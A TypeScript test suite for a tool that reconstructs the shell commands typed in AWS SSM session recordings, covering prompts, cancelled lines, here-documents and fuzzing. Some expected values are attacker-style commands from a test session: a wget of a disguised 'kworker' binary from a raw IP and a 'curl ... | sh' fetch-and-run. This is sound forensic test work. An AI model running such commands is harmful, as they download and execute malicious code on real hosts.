import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { extract } from '../../helpers/decode.js';
import { fixturesDir, sessionsDir } from '../../helpers/paths.js';

const fixture = (name: string) => readFileSync(join(sessionsDir, name));
const generated = (name: string) => readFileSync(join(fixturesDir, 'generated', name));
const HEADER =
  'Script started on 2026-10-05 14:03:22+00:00 [COMMAND="cat /var/lib/amazon/ssm/i-0123456789abcdef0/session/orchestration/t-0123456789abcdef0/Standard_Stream/ipcTempFile.log" <not executed on terminal>]\n';

describe('prompts of different hosts, found without configuration', () => {
  it.each([
    ['bash as sh (Amazon Linux)', 'sh-5.2$ ', { user: null, root: false }],
    [
      'root on Amazon Linux',
      '[root@ip-10-0-1-23 tmp]# ',
      { user: 'root', host: 'ip-10-0-1-23', cwd: 'tmp', root: true },
    ],
    ['Ubuntu', 'ubuntu@web-1:~/app$ ', { user: 'ubuntu', host: 'web-1', cwd: '~/app', root: false }],
    ['dash', '$ ', { user: null, root: false }],
    ['a bare root prompt', '# ', { user: 'root', root: true }],
  ])('%s: %j', async (_, prompt, facts) => {
    const { records } = await extract(`${HEADER}${prompt}uname -a\r\r\nLinux\r\r\n${prompt}id\r\r\nuid=0\r\r\n`);
    expect(records.map((r) => r.command)).toEqual(['uname -a', 'id']);
    expect(records[0]).toMatchObject(facts);
  });

  it('learns a custom PS1 with no usual terminator from its repetition (marked prompts)', async () => {
    const { records } = await extract(generated('custom-ps1-0123456789abcdef04.log'));
    expect(records.map((r) => r.command)).toEqual([
      'cd /tmp',
      'ls -la > listing.txt',
      'sudo -s',
      'exit',
      'echo bye',
      'exit',
    ]);
    expect(records.every((r) => !r.incomplete)).toBe(true);
  });

  it('sees the prompt change after sudo su - and takes user, host and cwd from the root prompt and its title', async () => {
    const { records } = await extract(fixture('mallory-09f8e7d6c5b4a3921.log'));
    const byCommand = new Map(records.map((r) => [r.command, r]));
    expect(byCommand.get('id')).toMatchObject({ root: false, user: null });
    expect(byCommand.get('whoami')).toMatchObject({ root: true, user: 'root', host: 'ip-10-0-1-23', cwd: '~' });
    expect(byCommand.get('wget -q http://203.0.113.66/x86_64/kworker -O .kw')).toMatchObject({
      root: true,
      cwd: '/tmp',
    });
  });

  it('takes the OS user from the streaming events when the prompt does not show it', async () => {
    const { records } = await extract(fixture('ops-jlee-0c5d2e8f1a7b3946d.cw-stream.jsonl'));
    expect(records[0]).toMatchObject({ command: 'uptime', user: 'ssm-user', time: '2026-10-05T09:12:42.000Z' });
  });

  it('records nothing typed at a password prompt', async () => {
    const { records } = await extract(fixture('mallory-09f8e7d6c5b4a3921.log'));
    expect(records.map((r) => r.command).join('\n')).not.toContain('hunter2');
    expect(records.map((r) => r.command)).toContain('su -');
  });
});

describe('lines that never ran', () => {
  it('a line abandoned with Ctrl-C is reported cancelled, never as executed', async () => {
    const { records } = await extract(fixture('dana-0b1c2d3e4f5a6b7c8.log'));
    expect(records.filter((r) => r.cancelled).map((r) => r.command)).toEqual(['sudo su -']);
  });

  it('dash shows ^C too', async () => {
    const { records } = await extract(generated('dash-0a0b0c0d0e0f01010.log'));
    expect(records.filter((r) => r.cancelled).map((r) => r.command)).toEqual(['sleep 5']);
  });

  it('a session killed while a line was being typed: the line is cancelled', async () => {
    const log = fixture('mallory-09f8e7d6c5b4a3921.log').toString('latin1');
    const cut = log.slice(0, log.indexOf('sh-5.2$ sudo -i') + 'sh-5.2$ sudo -i'.length);
    const { records } = await extract(Buffer.from(cut, 'latin1'));
    expect(records.at(-1)).toMatchObject({ command: 'sudo -i', cancelled: true });
    expect(records.filter((r) => !r.cancelled).map((r) => r.command)).not.toContain('sudo -i');
  });

  it('a completion listing and its redraw are one command, not two', async () => {
    const { records } = await extract(generated('edits-0123456789abcdef03.log'));
    expect(records[0]!.command).toBe('echo listed');
    const { records: plain } = await extract(generated('nopaste-0123456789abcdef05.log'));
    expect(plain.map((r) => r.command)).not.toContain('ls /etc/pa');
  });
});

describe('continuation lines and here-documents', () => {
  it('joins a backslash continuation as the shell reads it', async () => {
    const { records } = await extract(fixture('dana-0b1c2d3e4f5a6b7c8.log'));
    expect(records.map((r) => r.command)).toContain('grep -c . /etc/hostname   /etc/os-release');
  });

  it('keeps the lines of a loop and of a here-document together', async () => {
    const { records } = await extract(generated('edits-0123456789abcdef03.log'));
    const commands = records.map((r) => r.command);
    expect(commands).toContain('for i in 1 2\ndo echo $i\ndone');
    expect(commands).toContain('cat <<EOF\nsecret line\nEOF');
  });

  it('does the same for dash (no markers: the "> " prompt after an open command)', async () => {
    const { records } = await extract(generated('dash-0a0b0c0d0e0f01010.log'));
    expect(records.map((r) => r.command)).toContain('ls /tmp /var');
  });
});

describe('sessions that leave and re-enter the shell', () => {
  it('full-screen programs (vi, less, top) and clear leave no commands of their own', async () => {
    const { records } = await extract(generated('fullscreen-0f1e2d3c4b5a69780.log'));
    expect(records.map((r) => r.command).slice(0, 8)).toEqual([
      'echo before',
      'vi notes.txt',
      'less /etc/passwd',
      'top -b -n 1 | head -5',
      'top -n 1',
      'clear',
      'echo after clear',
      'echo after ctrl-l',
    ]);
  });

  it('binary garbage and a stray switch to the alternate screen do not lose the commands after them', async () => {
    const { records } = await extract(generated('garbage-0123456789abcdef02.log'));
    expect(records.map((r) => r.command).slice(0, 5)).toEqual([
      'head -c 3000 /usr/bin/true',
      'echo still here',
      "printf '\\033]0;unterminated title and \\033[?1049h alt screen'",
      'sudo su -',
      'exit',
    ]);
  });

  it('a shell without markers after one with them (Ubuntu: dash, sudo -i into bash, back to dash)', async () => {
    const { records } = await extract(generated('dash-0a0b0c0d0e0f01010.log'));
    expect(records.map((r) => r.command)).toContain('curl -s http://dl.bad-cdn.top/x | sh');
  });
});

describe('robustness', () => {
  it('random bytes never throw or hang the decoder and replay', async () => {
    await fc.assert(
      fc.asyncProperty(fc.uint8Array({ maxLength: 4096 }), fc.boolean(), async (bytes, withHeader) => {
        const data = withHeader ? Buffer.concat([Buffer.from(HEADER), bytes]) : bytes;
        const { records } = await extract(data, 'x.log', 97);
        for (const r of records) expect(typeof r.command).toBe('string');
      }),
      { numRuns: 300 },
    );
  });

  it('random terminal-like text (escapes, controls, prompts) never throws', async () => {
    const piece = fc.constantFrom(
      'sh-5.2$ ',
      '\x1b[?2004h',
      '\x1b[?2004l',
      '\r',
      '\n',
      '\b',
      '\x07',
      '\x1b[K',
      '\x1b[A',
      '\x1b[5C',
      '\x1b[2P',
      '\x1b[4h',
      '\x1b[?1049h',
      '\x1b[?1049l',
      '\x1b]0;t\x07',
      '^C',
      'echo hi',
      '日本',
      '\x1b[99999;99999H',
      '\x1b[2J',
      ' ',
      '\\',
    );
    await fc.assert(
      fc.asyncProperty(fc.array(piece, { maxLength: 200 }), async (pieces) => {
        await extract(HEADER + pieces.join(''), 'x.log', 7);
      }),
      { numRuns: 300 },
    );
  });

  it('random JSON-ish input never throws', async () => {
    await fc.assert(
      fc.asyncProperty(fc.jsonValue(), fc.string(), async (value, junk) => {
        await extract(`${JSON.stringify(value)}\n${junk}\n`, 'x.json');
        await extract(`[${JSON.stringify({ awslogs: { data: junk } })}]`, 'y.json');
      }),
      { numRuns: 200 },
    );
  });
});
